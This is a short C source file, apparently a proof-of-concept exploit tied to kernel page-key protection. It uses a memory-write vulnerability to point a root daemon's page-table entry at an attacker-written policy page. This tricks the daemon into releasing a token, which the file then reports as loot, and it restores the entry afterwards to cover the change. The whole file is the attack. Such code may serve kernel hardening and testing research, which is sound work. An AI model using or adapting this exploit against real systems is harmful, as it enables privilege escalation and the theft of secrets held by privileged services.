// SPDX-License-Identifier: GPL-2.0-only
/*
 * Rewrite a page-table entry of a root daemon so that the page by which it
 * decides whom to answer is one that the attacker wrote.
 *
 * The daemon itself makes the memory management unit notice: it keeps that
 * page read-only and opens it up only to count a request.
 */
#include <stddef.h>

#include "common.h"

int main(int argc, char **argv)
{
	const struct kpkeys_vuln_info *info = vuln_info();
	int pid = parse_number(argc > 1 ? argv[1] : NULL);
	void *victim = (void *)parse_number(argc > 2 ? argv[2] : NULL);
	struct daemon_policy *policy = map_pages(NULL, page_size());
	struct kpkeys_vuln_entry e;
	char token[TOKEN_LEN];

	policy->reader_uid = ATTACKER_UID;
	e = vuln_entry(pid, victim, KPKEYS_VULN_PTE);

	vuln_write(e.addr, phys_of(policy) | info->pte_user);
	if (!ask_daemon(token))
		die("the daemon refused");
	vuln_write(e.addr, e.value | info->sync);

	report_loot(token);
	return 0;
}
